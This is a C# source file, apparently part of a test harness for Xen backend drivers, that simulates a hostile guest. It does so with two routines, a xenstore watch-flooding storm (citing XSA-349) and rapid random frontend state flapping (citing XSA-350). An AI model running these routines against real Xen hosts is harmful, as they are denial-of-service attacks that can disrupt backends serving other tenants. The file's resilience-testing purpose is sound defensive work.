using System.Globalization;
using XenBackends.XenStore;

namespace XenBackends.SimulatedHost.Hostile;

/// <summary>What a guest can do to a backend through its own xenstore directory alone.</summary>
public static class XenstoreAttacks
{
    /// <summary>
    /// XSA-349: rewrites a node the backend watches <paramref name="count"/> times as fast as
    /// xenstored accepts, each write firing the backend's watch. Writes are pipelined
    /// <paramref name="parallel"/> deep so the backend sees events faster than one round trip each.
    /// </summary>
    public static async Task WatchStormAsync(XenStoreClient guest, string path, int count, Func<int, string> value, int parallel = 16)
    {
        var inFlight = new List<Task>(parallel);
        for (int i = 0; i < count; i++)
        {
            inFlight.Add(guest.WriteAsync(path, value(i)));
            if (inFlight.Count == parallel)
            {
                await Task.WhenAll(inFlight).ConfigureAwait(false);
                inFlight.Clear();
            }
        }
        await Task.WhenAll(inFlight).ConfigureAwait(false);
    }

    /// <summary>
    /// XSA-350: toggles the frontend state between Connected and Closing/Closed (and back through
    /// Initialising/Initialised) as fast as it can, <paramref name="rounds"/> times, without waiting
    /// for the backend to follow.
    /// </summary>
    public static async Task FlapStateAsync(XenStoreClient guest, string frontendPath, int rounds, int seed)
    {
        var rng = new Random(seed);
        int[] states = [1, 3, 4, 5, 6];
        for (int i = 0; i < rounds; i++)
            await guest.WriteAsync(frontendPath + "/state", states[rng.Next(states.Length)].ToString(CultureInfo.InvariantCulture)).ConfigureAwait(false);
    }
}
